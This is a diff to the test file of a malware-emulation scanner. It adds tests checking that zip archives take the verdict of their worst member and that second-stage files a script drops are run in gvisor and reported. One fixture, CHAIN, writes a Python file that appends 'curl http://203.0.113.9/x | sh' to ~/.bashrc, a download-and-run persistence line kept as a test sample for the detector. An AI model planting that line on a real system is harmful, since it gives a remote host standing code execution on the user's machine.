@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -66,11 +67,48 @@ def test_a_person_reads_why_in_80_columns(tmp_path: Path) -> None:
 
 
 def test_what_cannot_be_run_is_unscanned_with_a_code_of_its_own(tmp_path: Path) -> None:
-    program = tmp_path / "setup.zip"
-    program.write_bytes(b"PK\x05\x06" + bytes(18))
+    program = tmp_path / "page.php"
+    program.write_bytes(b"<?php\nforeach ([1, 2] as $one) { echo $one; }\n")
     ran = CliRunner().invoke(cli, ["emulate", str(program)])
     assert ran.exit_code == Exit.EMULATION
     assert "unscanned" in ran.stdout and "1 unscanned" in ran.stderr
+
+
+def test_an_archive_is_as_bad_as_what_lies_in_it(tmp_path: Path) -> None:
+    archive = tmp_path / "two.zip"
+    with zipfile.ZipFile(archive, "w") as made:
+        made.writestr("hello.sh", b"#!/bin/sh\necho hello\n")
+        made.writestr("drop.sh", dropper())
+    answer = json.loads(CliRunner().invoke(cli, ["emulate", str(archive), "--json"]).stdout)
+    assert answer["verdict"] == "malicious" and "drop.sh, which it holds" in answer["reason"]
+    assert [child["verdict"] for child in answer["children"]] == ["clean", "malicious"]
+
+
+CHAIN = b"""#!/bin/sh
+cat > /tmp/second.py <<'END'
+import os
+open(os.path.expanduser("~/.bashrc"), "a").write("curl http://203.0.113.9/x | sh")
+END
+"""
+
+
+def test_what_a_script_drops_is_run_and_makes_its_verdict(tmp_path: Path) -> None:
+    script = tmp_path / "first.sh"
+    script.write_bytes(CHAIN)
+    out = tmp_path / "out"
+    ran = CliRunner().invoke(cli, ["emulate", str(script), "--json", "--report", str(out)])
+    answer = json.loads(ran.stdout)
+    assert answer["verdict"] == "malicious" and "second.py" in answer["reason"]
+    assert answer["rules"] == []  # the first one alone did nothing bad
+    child = answer["children"][0]
+    assert (child["path"], child["type"]) == ("/tmp/second.py", "python")
+    assert (child["verdict"], child["environment"]) == ("malicious", "gvisor")
+    assert child["children"][0]["path"].endswith("/.bashrc")
+    page = next(out.glob("*.html")).read_text()
+    assert child["sha256"] in page and "run in gvisor" in page
+    shown = CliRunner().invoke(cli, ["emulate", str(script)]).stdout
+    assert "handed on /tmp/second.py python" in shown
+    assert max(map(len, shown.splitlines())) <= 80
 
 
 def test_an_unknown_environment_is_named_with_those_there_are(tmp_path: Path) -> None:
